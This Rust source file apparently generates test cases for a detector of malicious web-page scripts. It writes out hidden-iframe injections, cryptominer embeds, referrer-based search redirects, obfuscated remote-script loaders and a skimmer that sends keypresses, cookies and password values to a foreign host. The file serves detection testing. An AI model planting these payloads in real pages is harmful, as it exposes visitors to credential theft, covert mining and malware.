//! Hits: scripts and frames of a malicious form.

use super::{
    Case,
    chance::Chance,
    skeleton::Parts,
    spam::{base64, codes, escaped, hexed, host, url},
};

const RULE: &[&str] = &["safety.malicious-script"];
/// A frame that nobody sees is a hidden link too.
const FRAME: &[&str] = &["safety.malicious-script", "safety.hidden-link"];

/// Frames that nobody sees, to foreign hosts; `{U}` is the address.
const FRAMES: &[&str] = &[
    "<iframe src=\"{U}\" width=0 height=0></iframe>",
    "<iframe src={U} width=\"0\" height=\"0\" frameborder=\"0\"></iframe>",
    "<IFRAME SRC='{U}' WIDTH=1 HEIGHT=1></IFRAME>",
    "<iframe src=\"{U}\" style=\"display:none\"></iframe>",
    "<iframe style=\"visibility:hidden;position:absolute\" src=\"{U}\"></iframe>",
    "<iframe src=\"{U}\" style=\"width:0px;height:0px;border:0\"></iframe>",
    "<div style=\"display:none\"><iframe src=\"{U}\"></iframe></div>",
    "<iframe src=\"{U}\" style=\"position:absolute;left:-9999px;top:-9999px\"></iframe>",
    "<script>document.write('<iframe src={U} width=0 height=0></iframe>')</script>",
    "<iframe src=\"{U}\" height=\"0\" width=\"100%\" scrolling=\"no\"></iframe>",
];
/// Miners, as their makers tell people to write them; `{H}` is a foreign host.
const MINERS: &[&str] = &[
    "<script src=\"https://{H}/lib/coinhive.min.js\"></script><script>var miner=new CoinHive.Anonymous('kS3x9');miner.start();</script>",
    "<script src=\"https://{H}/c.js\"></script><script>var miner = new CoinHive.User('a1', 'john'); miner.start()</script>",
    "<script src=\"//{H}/deepMiner.js\"></script><script>var m=new deepMiner.Anonymous('deepMiner_test');m.start();</script>",
    "<script>var client = new Client.Anonymous('8f3a', {throttle: 0.3, c: 'w'}); client.start(); client.addMiningNotification(\"Top\",\"mining\");</script><script src=\"https://{H}/coinimp.js\"></script>",
    "<script src=\"https://{H}/cryptonight.wasm.js\"></script><script>startMining(\"wss://{H}/proxy\",\"4AbC\");</script>",
];
/// Readers who come from search engines are sent away, or spiders are; `{U}` is where.
const REDIRECTS: &[&str] = &[
    "<script>var r=document.referrer;if(r.indexOf(\"baidu\")>0||r.indexOf(\"sogou\")>0||r.indexOf(\"so.com\")>0){location.href=\"{U}\";}</script>",
    "<script>if(/baidu|sogou|soso|google|bing|sm\\.cn/i.test(document.referrer)){window.location.href='{U}'}</script>",
    "<script language=javascript>var s=document.referrer\nif(s.indexOf('baidu.com')!=-1) self.location='{U}';</script>",
    "<script>if(document.referrer.match(/(baidu|so|sogou)\\.com/)){top.location.replace(\"{U}\")}</script>",
    "<script>(function(){var u=navigator.userAgent.toLowerCase();if(u.indexOf('baiduspider')==-1 && document.referrer.indexOf('baidu')!=-1){location.href='{U}';}})();</script>",
    "<script>if(navigator.userAgent.match(/baiduspider|sogou|360spider|yisouspider/i)){}else{window.location.href=\"{U}\"}</script>",
];
/// What a loader does once it is decoded; `{U}` is the script it loads.
const LOADS: &str = "document.write('<script src=\"{U}\"></script>');";

pub(crate) fn cases(chance: &mut Chance) -> Vec<Case> {
    let mut cases = Vec::new();
    let plain =
        [("zero-frame", FRAME, FRAMES), ("miner", RULE, MINERS), ("redirect", RULE, REDIRECTS)];
    for (kind, rules, forms) in plain {
        for form in forms {
            let (host, url) = (host(chance), url(chance));
            let code = form.replace("{H}", &host).replace("{U}", &url);
            let parts = placed(chance, code);
            cases.push(Case::page(chance, "scripts", kind, rules, parts));
        }
    }
    for way in 0..6 {
        for _ in 0..2 {
            let code = loader(chance, way);
            let parts = placed(chance, code);
            cases.push(Case::page(chance, "scripts", "loader", RULE, parts));
        }
    }
    for _ in 0..2 {
        let host = host(chance);
        let code = skimmer(&host);
        let parts = placed(chance, code);
        cases.push(Case::page(chance, "scripts", "skimmer", RULE, parts));
    }
    cases
}

fn placed(chance: &mut Chance, code: String) -> Parts {
    let mut parts = Parts::default();
    match chance.below(5) {
        0 => parts.head = code,
        1 => parts.top = code,
        2 => parts.last = code,
        _ => parts.bottom = code,
    }
    parts
}

fn loader(chance: &mut Chance, way: usize) -> String {
    let url = format!("http://{}/{}.js", host(chance), chance.letters(4));
    let plain = LOADS.replace("{U}", &url);
    let name = chance.letters(4);
    match way {
        0 => format!("<script>eval(String.fromCharCode({}))</script>", codes(&plain)),
        1 => format!("<script>eval(unescape('{}'));</script>", escaped(&plain)),
        2 => format!("<script>eval(atob(\"{}\"))</script>", base64(plain.as_bytes())),
        3 => format!(
            "<script type=\"text/javascript\">window[\"{}\"][\"{}\"](\"{}\");</script>",
            hexed("document"),
            hexed("write"),
            hexed(&format!("<script src='{url}'></script>"))
        ),
        4 => {
            let words: Vec<String> =
                ["createElement", "script", "src", &url, "appendChild", "head"]
                    .iter()
                    .map(|word| format!("\"{}\"", hexed(word)))
                    .collect();
            let array = format!("_0x{}", chance.digits(4));
            format!(
                "<script>var {array}=[{}];var {name}=document[{array}[0]]({array}[1]);{name}[{array}[2]]={array}[3];document[{array}[5]][{array}[4]]({name});</script>",
                words.join(",")
            )
        }
        _ => format!(
            "<script>var {name}=String.fromCharCode({});document.write('<scr'+'ipt src=\"'+{name}+'\"></scr'+'ipt>');</script>",
            codes(&url)
        ),
    }
}

/// What is typed is sent elsewhere.
fn skimmer(host: &str) -> String {
    format!(
        "<script>document.addEventListener('keypress',function(e){{new Image().src='http://{host}/k.php?k='+e.key+'&c='+document.cookie}});document.forms[0].onsubmit=function(){{new Image().src='http://{host}/f.php?p='+encodeURIComponent(document.querySelector('input[type=password]').value)}}</script>"
    )
}
